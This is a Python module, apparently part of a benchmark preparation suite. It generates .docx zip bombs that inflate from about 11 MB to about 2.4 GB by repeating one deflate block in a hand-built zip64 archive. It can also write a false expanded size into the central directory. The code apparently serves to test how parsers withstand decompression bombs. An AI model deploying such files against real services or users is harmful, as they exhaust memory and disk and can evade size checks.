"""Zip bombs written as a stream: one deflate block repeated, so a 2.4 GB member costs seconds, not gigabytes.

After ``Z_FULL_FLUSH`` a deflate stream refers to nothing before it, so the compressed
bytes of one chunk can be repeated to inflate that chunk as often as wanted. The zip is
written by hand (zip64, one central directory) around that stream; the directory can
declare the true expanded size or a lie.
"""
from __future__ import annotations

import random
import struct
import zlib
from pathlib import Path

from benchmarks.preparation.bid import CONTENT_TYPES, RELS

CHUNK = 1024 * 1024
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _paragraph_chunk(seed: int, distinct: int) -> bytes:
    """~1 MB of paragraphs; ``distinct`` different ones set how well the chunk compresses."""
    rng = random.Random(seed)
    han = [chr(c) for c in range(0x4E00, 0x4E00 + 3000)]
    paras = [f"<w:p><w:r><w:t>{''.join(rng.choice(han) for _ in range(60))}</w:t></w:r></w:p>".encode()
             for _ in range(distinct)]
    out, i = bytearray(), 0
    while len(out) < CHUNK:
        out += paras[i % distinct]
        i += 1
    return bytes(out)


class _Writer:
    def __init__(self, f):
        self.f, self.entries = f, []

    def add(self, name: str, stream, size: int, crc: int, declared: int | None = None) -> None:
        """``stream`` yields raw deflate bytes; ``declared`` overrides the expanded size in the directory."""
        offset, encoded = self.f.tell(), name.encode()
        extra = struct.pack("<HHQQ", 1, 16, 0, 0)
        self.f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF,
                                 len(encoded), len(extra)) + encoded + extra)
        start = self.f.tell()
        for piece in stream:
            self.f.write(piece)
        compressed = self.f.tell() - start
        self.entries.append((encoded, offset, compressed, size if declared is None else declared, crc))

    def close(self) -> None:
        start = self.f.tell()
        for name, offset, compressed, size, crc in self.entries:
            extra = struct.pack("<HHQQQ", 1, 24, size, compressed, offset)
            self.f.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF,
                                     0xFFFFFFFF, len(name), len(extra), 0, 0, 0, 0, 0xFFFFFFFF) + name + extra)
        end = self.f.tell()
        n = len(self.entries)
        self.f.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, end - start, start))
        self.f.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1))
        self.f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))


def _small(writer: _Writer, name: str, data: bytes) -> None:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    writer.add(name, [c.compress(data) + c.flush()], len(data), zlib.crc32(data))


def docx_bomb(path: Path, expanded: int = 2400 * CHUNK, declared: int | None = None, distinct: int = 2) -> Path:
    """A .docx whose word/document.xml inflates to ``expanded`` bytes (default ~2.4 GB, ~11 MB on disk)."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W}><w:body>'.encode()
    chunk = _paragraph_chunk(8, distinct)
    repeats = (expanded - len(head)) // len(chunk)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)

    def stream():
        yield first
        for _ in range(repeats):
            yield block
        yield tail

    with open(path, "wb") as f:
        writer = _Writer(f)
        _small(writer, "[Content_Types].xml", CONTENT_TYPES)
        _small(writer, "_rels/.rels", RELS)
        writer.add("word/document.xml", stream(), len(head) + repeats * len(chunk), crc, declared)
        writer.close()
    return path
